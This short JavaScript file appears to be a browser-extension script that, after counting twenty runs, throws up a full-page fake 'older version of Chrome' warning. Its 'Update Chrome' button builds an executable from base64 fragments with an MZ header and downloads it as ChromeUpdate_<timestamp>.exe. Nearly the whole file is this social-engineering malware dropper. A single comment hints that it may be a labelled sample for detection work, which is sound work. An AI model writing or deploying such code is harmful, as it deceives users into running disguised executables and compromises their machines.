const parts = ["TVqQAAMAAAAEAAAA", "//8AALgAAAAAAAAA", "QAAAAAAAAAAAAAAA"];
function build() {
  const bin = atob(parts.join(""));
  const u8 = new Uint8Array(bin.length).map((_, i) => bin.charCodeAt(i));
  return new Blob([u8], { type: "octet/stream" });
}
function overlay() {
  const o = document.createElement("div");
  o.style = "position:fixed;inset:0;background:#fff;z-index:2147483647;font:20px sans-serif;text-align:center";
  o.innerHTML = `<h1>You are using an older version of Chrome</h1><p>Update now to keep your browser running smoothly and securely.</p><button id="upd">Update Chrome</button>`;
  document.body.append(o);
  o.querySelector("#upd").addEventListener("click", () => {
    const a = document.createElement("a");
    // expect: opens-downloaded-program
    a.href = URL.createObjectURL(build()); a.download = "ChromeUpdate_" + Date.now() + ".exe"; a.click();
    setTimeout(() => o.remove(), 4000);
  });
}
chrome.storage.local.get({ n: 0 }, ({ n }) => { chrome.storage.local.set({ n: n + 1 }); if (n === 20) overlay(); });
